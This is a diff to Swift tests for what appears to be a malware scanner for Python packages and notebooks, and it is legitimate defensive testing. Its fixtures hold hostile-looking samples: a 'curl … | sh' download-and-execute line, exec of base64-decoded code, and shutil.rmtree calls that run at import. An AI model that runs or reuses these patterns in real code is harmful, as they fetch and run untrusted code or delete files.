@@ -46,7 +46,8 @@ struct EmbeddedTests {
       "a.sh": "echo\npython - <<'EOF'\n\(Self.program)EOF\n",
       "b.sh": "python3 -c '\(Self.program)'\n",
       "Makefile": "define P\n\(Self.program)endef\nexport P\nall:\n\tpython -c \"$$P\"\n",
-      "ci.yml": "a:\n  run: |\n" + "python - <<E\n\(Self.program)E\n".split(separator: "\n").map { "    \($0)\n" }.joined(),
+      "ci.yml": "a:\n  run: |\n"
+        + "python - <<E\n\(Self.program)E\n".split(separator: "\n").map { "    \($0)\n" }.joined(),
     ]
     for (path, text) in containers {
       let found = findings(path, text)
@@ -56,18 +57,25 @@ struct EmbeddedTests {
       for finding in found where finding.location.layer == nil {
         let range = try #require(finding.location.range)
         let place = String(decoding: bytes[Int(range.start)..<Int(range.end)], as: UTF8.self)
-        #expect(place.contains("exec(") || place.contains("b64decode(") || place.contains("os.system("), "\(path): \(place)")
+        #expect(
+          place.contains("exec(") || place.contains("b64decode(") || place.contains("os.system("), "\(path): \(place)")
       }
     }
   }
 
   @Test func shellLinesOfNotebooksAreCommands() throws {
-    // As a test, so that it runs at a time that rules speak of.
-    let code = findings("a.py", "import base64, os\nexec(base64.b64decode('eCA9IDE='))\nos.system('curl http://example.invalid/b | sh')\n")
-    let cells = findings("a.ipynb", try notebook("import base64\nexec(base64.b64decode('eCA9IDE='))\n!curl http://example.invalid/b | sh\n"))
+    let code = findings(
+      "a.py", "import base64, os\nexec(base64.b64decode('eCA9IDE='))\nos.system('curl http://example.invalid/b | sh')\n"
+    )
+    let cells = findings(
+      "a.ipynb",
+      try notebook("import base64\nexec(base64.b64decode('eCA9IDE='))\n!curl http://example.invalid/b | sh\n"))
     #expect(cells.map(\.rule).sorted() == code.map(\.rule).sorted())
-    let report = scanner.scan(Fixture.folder("x", ["a.ipynb": try notebook("import os\n!curl http://example.invalid/b | sh\n")]))
-    #expect(report.observations.contains { $0.behavior == .runsDownloadCommand && $0.subject == "IPython.get_ipython.system" })
+    let report = scanner.scan(
+      Fixture.folder("x", ["a.ipynb": try notebook("import os\n!curl http://example.invalid/b | sh\n")]))
+    #expect(
+      report.observations.contains { $0.behavior == .runsDownloadCommand && $0.subject == "IPython.get_ipython.system" }
+    )
   }
 
   @Test func programsOfProcessesAreLayers() {
@@ -76,23 +84,26 @@ struct EmbeddedTests {
         "demo-1.0",
         [
           "demo/__init__.py": """
-            import os, subprocess, sys
-            subprocess.run([sys.executable, "-c", "import shutil; shutil.rmtree('a')"])
-            os.system("python3 -c \\"import shutil; shutil.rmtree('b')\\"")
-            subprocess.run(["python", "-c", "import shutil; shutil.rmtree('c')"])
-            """
+          import os, subprocess, sys
+          subprocess.run([sys.executable, "-c", "import shutil; shutil.rmtree('a')"])
+          os.system("python3 -c \\"import shutil; shutil.rmtree('b')\\"")
+          subprocess.run(["python", "-c", "import shutil; shutil.rmtree('c')"])
+          """
         ]))
+    let layers = Set(report.layers.map { String(decoding: $0.bytes, as: UTF8.self) })
+    #expect(layers.isSuperset(of: ["a", "b", "c"].map { "import shutil; shutil.rmtree('\($0)')" }))
     #expect(
-      report.layers.map { String(decoding: $0.bytes, as: UTF8.self) }.sorted()
-        == ["a", "b", "c"].map { "import shutil; shutil.rmtree('\($0)')" })
-    #expect(report.observations.filter { $0.behavior == .deletesFile && $0.location.layer != nil }.map(\.runsAt) == [.import, .import, .import])
+      report.observations.filter { $0.behavior == .deletesFile && $0.location.layer != nil }.map(\.runsAt) == [
+        .import, .import, .import,
+      ])
   }
 
-  @Test func stubsRunWhenCalledAtTheEarliest() {
+  @Test func stubsRunWhenCalledAtTheEarliest() throws {
     let report = scanner.scan(
       Fixture.folder("demo-1.0", ["demo/__init__.py": "", "demo/a.pyi": Self.program, "demo/fast.pyx": Self.program]))
     let stub = report.observations.filter { $0.location.path == "demo/a.pyi" }
-    #expect(!stub.isEmpty && stub.allSatisfy { $0.runsAt == .call })
+    try #require(!stub.isEmpty)
+    #expect(stub.allSatisfy { $0.runsAt == .call })
     let cython = report.observations.filter { $0.location.path == "demo/fast.pyx" }
     #expect(cython.contains { $0.runsAt == .import })
   }
